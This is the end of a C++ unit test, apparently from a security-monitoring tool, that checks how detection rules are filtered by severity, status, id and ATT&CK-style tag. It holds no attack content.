  const RuleSet all{{make("a", Level::low, "stable", {"attack.t1496"}),
                     make("b", Level::high, "deprecated", {}),
                     make("c", Level::critical, "", {"Attack.T1078"}),
                     make("d", Level::medium, "experimental", {})},
                    {}};
  auto ids = [](const RuleSet& set) {
    std::vector<std::string> out;
    for (const auto& rule : set.rules) {
      out.push_back(rule.id);
    }
    return out;
  };
  RuleSet set = all;
  EXPECT_EQ(select_rules(set, {}), 1u); // deprecated left out by default
  EXPECT_EQ(ids(set), (std::vector<std::string>{"a", "c", "d"}));
  set = all;
  select_rules(set, RuleSelection{Level::medium, {}, {}, {}});
  EXPECT_EQ(ids(set), (std::vector<std::string>{"c", "d"}));
  set = all;
  select_rules(set, RuleSelection{Level::informational, {"deprecated", "stable"}, {}, {}});
  EXPECT_EQ(ids(set), (std::vector<std::string>{"a", "b"}));
  set = all;
  select_rules(set, RuleSelection{Level::informational, {}, {"D", "a"}, {}});
  EXPECT_EQ(ids(set), (std::vector<std::string>{"a", "d"}));
  set = all;
  select_rules(set, RuleSelection{Level::informational, {}, {}, {"attack.t1078"}});
  EXPECT_EQ(ids(set), (std::vector<std::string>{"c"}));
}

} // namespace
} // namespace trailwatch
